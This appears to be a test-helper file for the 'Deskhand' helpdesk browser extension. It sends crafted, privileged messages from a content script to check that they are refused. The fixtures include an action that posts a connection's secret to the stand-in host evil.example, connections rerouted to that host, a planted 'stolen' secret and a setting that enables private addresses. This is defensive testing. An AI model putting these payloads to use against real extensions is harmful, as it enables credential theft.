// Messages as somebody else would send them: well formed and dangerous, and from a helpdesk's page. No test stands here.
import type { HelpdeskDefinition } from '#lib/helpdesk/definition.ts';
import type { MessageName } from '#lib/messages.ts';
import type { Deskhand } from '../world/deskhand.ts';
import { API_ORIGIN, HELPDESK_ORIGIN } from '../world/world.ts';

export const RUN_ID = '00000000-0000-4000-8000-000000000000';
const EVERYTHING = { show: 'all', tests: 'include' };
const TICKET_KEY = `${HELPDESK_ORIGIN}#48213`;

/** Sends what it can to a server of somebody else's, with the connection's secret. */
const TAKEN_OVER = {
  schemaVersion: 1,
  id: 'refund-order',
  name: 'Taken over',
  description: 'Taken over.',
  request: { method: 'POST', url: 'https://evil.example/', connectionId: 'northwind' },
  status: 'active',
  revision: 1,
  updatedAt: 1,
};

const DEFINITION: HelpdeskDefinition = {
  schemaVersion: 1,
  id: 'desk',
  name: 'Desk',
  origins: ['https://evil.example'],
  address: '/{id}',
  parts: [{ part: 'subject', selector: 'h1', optional: false }],
  messages: null,
  fields: [],
  rows: null,
  composers: [],
  updatedAt: 0,
};

/** A well-formed request of each message, as dangerous as it can be: what is refused must be refused for its sender. */
export function requestsFor(windowId: number): Record<MessageName, object> {
  const run = {
    windowId,
    actionId: 'send-password-reset',
    revision: 1,
    runId: RUN_ID,
    values: { customer_email: 'mara@lindqvist.example' },
    ticketKey: TICKET_KEY,
  };
  return {
    'tickets.publish': { reading: { kind: 'signed-out', helpdeskName: 'Otter' } },
    'tickets.loadReader': { helpdesk: 'demo' },
    'tickets.recent': {},
    'tickets.view': { windowId },
    'tickets.mark': { windowId, ticketKey: TICKET_KEY, messageId: null, text: 'Kettle' },
    'tickets.insert': { windowId, runId: RUN_ID, target: 'reply' },
    'cards.search': { windowId, query: 'refund' },
    'cards.get': { windowId, actionId: 'refund-order' },
    'cards.dismiss': { windowId, actionId: 'refund-order', ticketKey: TICKET_KEY },
    'runs.preview': run,
    'runs.start': { ...run, confirmed: true },
    'runs.cancel': { runId: RUN_ID },
    'runs.get': { runId: RUN_ID },
    'runs.settle': { runId: RUN_ID, happened: true },
    'runs.checkCard': { windowId, runId: RUN_ID },
    'tickets.note': { windowId, runId: RUN_ID, again: true },
    'helpdesks.list': {},
    'helpdesks.save': { definition: DEFINITION },
    'helpdesks.probe': {
      origins: [HELPDESK_ORIGIN],
      address: '/{id}',
      asked: [{ field: 'x', selector: 'body', as: 'text', within: '' }],
    },
    // Of no open page: beside one it waits for a person to point.
    'helpdesks.pick': {
      origins: ['https://nobody.example'],
      address: '/{id}',
      pick: { name: 'x', as: 'text', within: '' },
    },
    'helpdesks.delete': { id: 'desk' },
    'actions.list': {},
    'actions.activity': {},
    'actions.get': { id: 'refund-order' },
    'actions.keepDraft': { action: TAKEN_OVER, base: 1, after: 0 },
    'actions.discardDraft': { id: 'refund-order', after: 0 },
    'actions.save': { action: TAKEN_OVER, as: 'active', base: 1, after: 0 },
    'actions.ticketWords': { id: 'refund-order', text: 'Refund an order' },
    'actions.revisions': { id: 'refund-order' },
    'actions.revision': { id: 'refund-order', revision: 1 },
    'actions.setStatus': { ids: ['refund-order'], status: 'inactive' },
    'actions.delete': { ids: ['refund-order'] },
    'trash.list': {},
    'trash.restore': { ids: ['refund-order'] },
    'trash.erase': { ids: ['refund-order'] },
    'tests.save': { actionId: 'refund-order', sets: [] },
    'tests.call': { action: TAKEN_OVER, values: {}, testId: RUN_ID, confirmed: true },
    'tests.dryRun': { action: TAKEN_OVER, values: {}, testId: RUN_ID },
    'library.read': { ids: null },
    'learning.list': {},
    'learning.forget': { id: null },
    'learning.merge': { learned: { actions: [] } },
    'learning.read': { ids: null },
    'library.import': {
      text: '{"format":"deskhand-library","schemaVersion":1,"connections":[{"schemaVersion":1,"id":"northwind","name":"Taken over","kind":"bearer","origins":["https://evil.example"],"updatedAt":1}]}',
    },
    'library.importDemo': {},
    'connections.list': {},
    'connections.save': {
      connection: {
        schemaVersion: 1,
        id: 'northwind',
        name: 'Taken over',
        kind: 'bearer',
        origins: ['https://evil.example'],
        updatedAt: 1,
      },
    },
    'connections.delete': { id: 'northwind' },
    'connections.setSecret': { id: 'northwind', secret: 'stolen' },
    'connections.forgetSecret': { id: 'northwind' },
    'connections.signIn': { id: 'northwind' },
    'connections.signOut': { id: 'northwind' },
    'connections.test': { id: 'northwind' },
    'secrets.status': {},
    'secrets.setLevel': { level: 'passphrase', passphrase: 'somebody else’s' },
    'secrets.unlock': { passphrase: 'somebody else’s' },
    'secrets.lock': {},
    'secrets.forgetAll': {},
    'log.list': { filter: EVERYTHING, after: null, limit: 200 },
    'log.run': { runId: RUN_ID },
    'log.records': { filter: EVERYTHING, after: null },
    'log.facets': {},
    'log.erase': { before: null },
    'sites.list': {},
    'sites.add': { origin: API_ORIGIN },
    'sites.remove': { origin: HELPDESK_ORIGIN },
    'settings.get': {},
    'settings.set': { allowPrivateAddresses: true },
    'policy.view': {},
    'storage.status': {},
    'storage.recover': { use: 'empty' },
    'sync.read': {},
    'sync.subscribe': { url: `${API_ORIGIN}/library.json`, connectionId: null, publicKey: null, automatic: true },
    'sync.look': {},
    'sync.accept': { version: 1, entries: null },
    'sync.change': { automatic: true, paused: false },
    'sync.pin': { version: null },
    'sync.drop': { version: 1, entry: { kind: 'action', id: 'look-up-order' } },
    'sync.preview': { version: null, entry: null },
    'sync.offerMerge': { entry: { kind: 'action', id: 'look-up-order' }, sides: {} },
    'sync.merge': { version: 1, entry: { kind: 'action', id: 'look-up-order' }, sides: {} },
    'sync.unsubscribe': { keep: false },
    'insights.read': {},
    'publish.read': {},
    'publish.prepare': { url: `${API_ORIGIN}/library.json`, connectionId: null, leave: [], sides: {} },
    'publish.send': { seen: 0, note: '', passphrase: null, unprotected: true, leave: [], sides: {} },
    'publish.makeKey': { passphrase: 'correct horse battery staple' },
    'publish.keyFile': {},
    'publish.takeKey': { text: '{}' },
    'publish.removeKey': { publicKey: 'x' },
  };
}

/** Sends messages as a content script does: from Deskhand's isolated world in the tab that shows this address. */
export async function fromContent(deskhand: Deskhand, url: string, sent: unknown[], frame = 'top'): Promise<unknown[]> {
  const worker = await deskhand.worker();
  return worker.evaluate(
    async ({ address, list, where }) => {
      const tab = (await chrome.tabs.query({})).find((one) => one.url === address);
      const results = await chrome.scripting.executeScript({
        target: { tabId: tab?.id ?? -1, allFrames: true },
        // As text: executeScript drops members that are null.
        args: [JSON.stringify(list)],
        func: (text) =>
          Promise.all(
            (JSON.parse(text) as unknown[]).map((message) => chrome.runtime.sendMessage(message).catch(String)),
          ),
      });
      const found = results.find(({ frameId }) => (frameId === 0) === (where === 'top'));
      return found?.result ?? ['no such frame'];
    },
    { address: url, list: sent, where: frame },
  );
}
